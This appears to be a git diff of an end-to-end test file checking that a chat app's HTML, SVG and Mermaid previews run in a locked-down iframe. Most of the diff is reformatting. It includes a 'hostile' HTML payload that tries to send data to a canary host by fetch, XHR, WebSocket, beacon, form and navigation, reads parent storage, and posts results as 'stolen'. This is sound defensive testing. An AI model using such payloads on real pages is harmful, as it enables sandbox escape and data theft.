@@ -15,7 +15,8 @@ const CHART =
   'A chart:\n\n```html\n<!doctype html><html><body><h1 id="t">Sales</h1><canvas id="c" width="200" height="80"></canvas>' +
   '<script>const g = document.getElementById("c").getContext("2d"); g.fillStyle = "#4f46e5"; g.fillRect(10, 10, 120, 60);' +
   ' document.getElementById("t").textContent = "Sales " + (6 * 7);</script></body></html>\n```\n';
-const ICON = 'An icon:\n\n```svg\n<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><circle cx="32" cy="32" r="28" fill="teal"/></svg>\n```\n';
+const ICON =
+  'An icon:\n\n```svg\n<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><circle cx="32" cy="32" r="28" fill="teal"/></svg>\n```\n';
 const FLOW = 'A diagram:\n\n```mermaid\nflowchart LR\n  Start --> Check{Valid?}\n  Check -->|yes| Done\n  Check -->|no| Start\n```\n';
 const BROKEN = 'A broken diagram:\n\n```mermaid\nflowchart LR\n  A --> --> B ((\n```\n';
 const WHOLE = '<!doctype html>\n<html><head><title>Whole</title></head><body><p id="w">whole document</p></body></html>';
@@ -26,18 +27,38 @@ const LOOP =
 function hostile(canary: string): string {
   const ws = canary.replace('http:', 'ws:');
   return (
-    'Hostile:\n\n```html\n<!doctype html><html><head><meta http-equiv="refresh" content="1;url=' + canary + '/refresh">' +
-    '<link rel="stylesheet" href="' + canary + '/css"></head><body><h1>hostile</h1><img src="' + canary + '/img">' +
-    '<form id="f" method="POST" action="' + canary + '/form"><input name="x" value="1"></form><script>\n' +
+    'Hostile:\n\n```html\n<!doctype html><html><head><meta http-equiv="refresh" content="1;url=' +
+    canary +
+    '/refresh">' +
+    '<link rel="stylesheet" href="' +
+    canary +
+    '/css"></head><body><h1>hostile</h1><img src="' +
+    canary +
+    '/img">' +
+    '<form id="f" method="POST" action="' +
+    canary +
+    '/form"><input name="x" value="1"></form><script>\n' +
     'const out = {};\n' +
     'const t = (name, f) => { try { out[name] = String(f()); } catch (e) { out[name] = "blocked " + e.name; } };\n' +
-    't("fetch", () => fetch("' + canary + '/fetch").then(() => "sent", () => "failed"));\n' +
-    't("xhr", () => { const x = new XMLHttpRequest(); x.open("GET", "' + canary + '/xhr"); x.send(); return "sent"; });\n' +
-    't("ws", () => new WebSocket("' + ws + '/ws").url);\n' +
-    't("beacon", () => navigator.sendBeacon("' + canary + '/beacon", "x"));\n' +
+    't("fetch", () => fetch("' +
+    canary +
+    '/fetch").then(() => "sent", () => "failed"));\n' +
+    't("xhr", () => { const x = new XMLHttpRequest(); x.open("GET", "' +
+    canary +
+    '/xhr"); x.send(); return "sent"; });\n' +
+    't("ws", () => new WebSocket("' +
+    ws +
+    '/ws").url);\n' +
+    't("beacon", () => navigator.sendBeacon("' +
+    canary +
+    '/beacon", "x"));\n' +
     't("form", () => document.getElementById("f").submit());\n' +
-    't("open", () => window.open("' + canary + '/open"));\n' +
-    't("top", () => { top.location.href = "' + canary + '/top"; return "set"; });\n' +
+    't("open", () => window.open("' +
+    canary +
+    '/open"));\n' +
+    't("top", () => { top.location.href = "' +
+    canary +
+    '/top"; return "set"; });\n' +
     't("parentDocument", () => parent.document.title);\n' +
     't("parentStorage", () => parent.localStorage.length);\n' +
     't("localStorage", () => localStorage.length);\n' +
@@ -48,7 +69,9 @@ function hostile(canary: string): string {
     't("origin", () => origin);\n' +
     'parent.postMessage({ type: "size", height: "huge" }, "*");\n' +
     'parent.postMessage({ stolen: out }, "*");\n' +
-    'setTimeout(() => { location.href = "' + canary + '/self"; }, 200);\n' +
+    'setTimeout(() => { location.href = "' +
+    canary +
+    '/self"; }, 200);\n' +
     '</script></body></html>\n```\n'
   );
 }
@@ -79,8 +102,6 @@ describe('artifacts: html, svg and Mermaid previews in a powerless frame', { tim
     await page.getByRole('button', { name: /^(Send|发送)$/ }).waitFor({ timeout: LONG });
     return reply;
   };
-  const lastFrame = () => page.locator('iframe.preview-frame').last();
-  const frameState = (state: string) => page.locator(`iframe.preview-frame[data-preview-state="${state}"]`).last().waitFor({ timeout: LONG });
 
   before(async () => {
     canary = http.createServer((req, res) => {
@@ -200,7 +221,9 @@ describe('artifacts: html, svg and Mermaid previews in a powerless frame', { tim
     const storage = await page.evaluate('JSON.stringify(Object.entries(localStorage).filter(([k]) => k !== "artifact-previews"))');
     const url = page.url();
     const title = await page.title();
-    await page.evaluate(`window.__stolen = []; addEventListener('message', (e) => { if (e.data && e.data.stolen) window.__stolen.push(e.data.stolen); });`);
+    await page.evaluate(
+      `window.__stolen = []; addEventListener('message', (e) => { if (e.data && e.data.stolen) window.__stolen.push(e.data.stolen); });`,
+    );
     const reply = await send('hostile please');
     await reply.getByRole('button', { name: 'Preview' }).click();
     await page.waitForFunction(() => (globalThis as any).__stolen.length > 0, undefined, { timeout: LONG });
@@ -225,7 +248,9 @@ describe('artifacts: html, svg and Mermaid previews in a powerless frame', { tim
   });
 
   it('an endless loop in a preview never freezes the chat, and is stopped', async () => {
-    await page.evaluate(`window.__spin = false; addEventListener('message', (e) => { if (e.data && e.data.spinning) window.__spin = true; });`);
+    await page.evaluate(
+      `window.__spin = false; addEventListener('message', (e) => { if (e.data && e.data.spinning) window.__spin = true; });`,
+    );
     const reply = await send('loop please');
     await reply.getByRole('button', { name: 'Preview' }).click();
     await page.waitForFunction(() => (globalThis as any).__spin === true, undefined, { timeout: LONG });
